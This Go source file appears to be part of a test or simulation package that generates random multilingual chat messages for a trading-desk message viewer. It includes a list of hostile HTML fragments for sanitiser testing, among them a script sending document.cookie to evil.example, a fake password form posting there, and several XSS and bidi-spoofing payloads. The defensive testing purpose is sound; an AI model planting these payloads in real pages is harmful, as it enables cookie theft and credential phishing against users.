package sim

import (
	"math/rand/v2"
	"strconv"
	"strings"
)

var topics = []string{
	"Morning call", "EUR swaps", "Weekly review", "Budget", "Onboarding", "Client visit", "Gilt auction", "Index rebalance",
	"Incident 4711", "Ölpreise", "採用面接", "Q3 & Q4 <draft>",
}

func drawTopic(r *rand.Rand) string { return pick(r, topics) }

var words = strings.Fields(`the a of to and in we you can should will please about order client price level desk spread
book today tomorrow morning call offer bid size fill risk hedge limit market open close trade rates curve equity option
strike delta quote confirm settle ticket margin desk report note check later before after again numbers meeting lunch
coffee train review draft agree sell buy hold wait ready done thanks sure maybe ten fifty hundred million basis points
Zürich São Paulo naïve café Łódź Ελλάδα Привет 東京 株式 שלום مرحبا`)

var emoji = []string{"👍", "😂", "🎉", "🙏", "📈", "👩‍💻", "🇫🇷", "💘", "✅"}

// hostile are fragments that a viewer must not let act.
var hostile = []string{
	`<script>fetch('https://evil.example/?c='+document.cookie)</script>`,
	`<img src=x onerror="alert(1)">`,
	`<a href="javascript:alert(document.domain)">prices</a>`,
	`<svg onload="alert(1)"><animate attributeName="href" values="javascript:alert(1)"/></svg>`,
	`<iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>"></iframe>`,
	`<div style="background:url(https://evil.example/beacon.gif);position:fixed;inset:0">overlay</div>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">open</a>`,
	"<p>zero\u200bwidth \u202egnp.exe\u202c \u0000-free \u2028 line</p>",
}

// drawText is a sentence or a few, about mean words long.
func drawText(r *rand.Rand, mean int) string {
	n := 1 + int(r.ExpFloat64()*float64(mean))
	n = min(n, 8*mean)
	var b strings.Builder
	b.Grow(n * 7)
	for i := range n {
		if i > 0 {
			b.WriteByte(' ')
		}
		switch r.IntN(24) {
		case 0:
			b.WriteString(pick(r, emoji))
		case 1:
			b.WriteString(strconv.FormatFloat(r.Float64()*1000, 'f', 2, 64))
		default:
			b.WriteString(pick(r, words))
		}
	}
	b.WriteByte(pick(r, []byte{'.', '?', '!'}))
	return b.String()
}
